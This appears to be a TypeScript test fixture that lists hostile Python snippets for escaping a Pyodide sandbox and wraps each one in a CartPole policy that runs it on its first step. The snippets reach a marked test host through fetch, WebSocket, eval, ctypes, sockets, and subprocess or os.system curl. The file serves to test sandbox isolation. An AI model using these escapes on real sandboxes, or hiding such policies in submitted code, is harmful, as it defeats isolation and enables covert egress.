// Hostile Python: each snippet runs in act(). HTTP and WS stand for addresses that carry the attack's own mark.

export interface PythonAttack {
  readonly name: string;
  readonly code: string;
  /** False where Python in the browser offers no such way out anyway: then there is no control to arrive. */
  readonly worksElsewhere: boolean;
}

export const pythonAttacks: readonly PythonAttack[] = [
  { name: 'js.fetch', code: 'import js\njs.fetch(HTTP)', worksElsewhere: true },
  { name: 'a WebSocket through js', code: 'import js\njs.WebSocket.new(WS)', worksElsewhere: true },
  {
    name: 'an XMLHttpRequest through js',
    code: "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', HTTP, False)\nx.send()",
    worksElsewhere: true,
  },
  { name: 'js.eval', code: "import js\njs.eval('fetch(' + repr(HTTP) + ')')", worksElsewhere: true },
  {
    name: 'a dynamic import through js',
    code: "import js\njs.eval('import(' + repr(HTTP + '.js') + ')')",
    worksElsewhere: true,
  },
  {
    name: 'run_js',
    code: "from pyodide.code import run_js\nrun_js('fetch(' + repr(HTTP) + ')')",
    worksElsewhere: true,
  },
  {
    name: 'pyfetch',
    code: 'import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch(HTTP))',
    worksElsewhere: true,
  },
  { name: 'open_url', code: 'from pyodide.http import open_url\nopen_url(HTTP)', worksElsewhere: true },
  {
    name: 'loadPackage by address',
    code: "import pyodide_js\npyodide_js.loadPackage(HTTP + '-1.0-py3-none-any.whl')",
    worksElsewhere: true,
  },
  {
    name: "JavaScript's Function, reached from a converted object",
    code: "from pyodide.ffi import to_js\nto_js([1]).constructor.constructor('return fetch(' + repr(HTTP) + ')')()",
    worksElsewhere: true,
  },
  {
    name: 'emscripten_run_script through ctypes',
    code: "import ctypes\nf = ctypes.CDLL(None).emscripten_run_script\nf.argtypes = [ctypes.c_char_p]\nf(b'fetch(' + repr(HTTP).encode() + b')')",
    worksElsewhere: true,
  },
  {
    name: 'the raw module behind pyodide_js',
    code: "import pyodide_js\npyodide_js._module.eval('1')\npyodide_js._api.rawRun('1')",
    worksElsewhere: false,
  },
  { name: 'urllib', code: 'import urllib.request\nurllib.request.urlopen(HTTP, timeout=1)', worksElsewhere: false },
  { name: 'a socket', code: 'import socket\nsocket.create_connection((HOST, PORT), timeout=1)', worksElsewhere: false },
  {
    name: 'http.client',
    code: "import http.client\nc = http.client.HTTPConnection(HOST, PORT, timeout=1)\nc.request('GET', '/' + MARK)",
    worksElsewhere: false,
  },
  { name: 'a subprocess', code: "import subprocess\nsubprocess.run(['curl', HTTP])", worksElsewhere: false },
  { name: 'os.system', code: "import os\nos.system('curl ' + HTTP)", worksElsewhere: false },
];

export interface PythonAddresses {
  readonly host: string;
  readonly port: number;
  readonly mark: string;
}

/** The snippet with its names set, its own errors caught. */
export function asScript(code: string, { host, port, mark }: PythonAddresses): string {
  const names = [
    `HOST = '${host}'`,
    `PORT = ${port}`,
    `MARK = '${mark}'`,
    `HTTP = 'http://${host}:${port}/${mark}'`,
    `WS = 'ws://${host}:${port}/${mark}'`,
  ];
  return `${names.join('\n')}\ntry:\n${code.replace(/^/gm, '    ')}\nexcept BaseException as error:\n    print('stopped:', type(error).__name__, error)\n`;
}

/** The snippet as a policy that runs it on its first step and keeps the worker alive for a while. */
export function asPythonPolicy(code: string, addresses: PythonAddresses): string {
  return `import time
SCRIPT = ${JSON.stringify(asScript(code, addresses))}
class CartPolePolicy:
    started = False
    def act(self, obs):
        if not self.started:
            self.started = True
            exec(SCRIPT, {})
            until = time.monotonic() + 0.15
            while time.monotonic() < until: pass
        return 0
`;
}
